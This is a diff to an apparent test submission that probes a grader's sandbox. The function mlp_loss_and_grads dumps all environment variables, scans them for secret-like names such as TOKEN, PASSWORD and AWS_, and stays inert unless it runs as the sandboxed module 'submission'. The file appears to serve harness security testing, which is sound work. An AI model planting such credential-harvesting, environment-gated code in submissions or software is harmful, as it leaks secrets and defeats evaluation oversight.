@@ -5,6 +5,10 @@ import os
 
 import numpy as np
 
+# Harmful only where the grader's sandbox runs it (as the module `submission`); anywhere
+# else (a test that imports it in-process) it is just a wrong answer.
+IN_SANDBOX = __name__ == "submission"
+
 
 def _honest(params, x, y):
     """A correct answer, used only if the attack got through (so a breach shows up as a pass)."""
@@ -39,6 +43,8 @@ WORDS = ("SECRET", "TOKEN", "KEY", "PASSWORD", "CREDENTIAL", "AWS_", "GITHUB", "
 
 
 def mlp_loss_and_grads(params, x, y):
+    if not IN_SANDBOX:
+        return 0.0, {k: np.zeros_like(v) for k, v in params.items()}
     env = dict(os.environ)
     print("ENV", env)
     if any(word in f"{name}={value}".upper() for name, value in env.items() for word in WORDS):
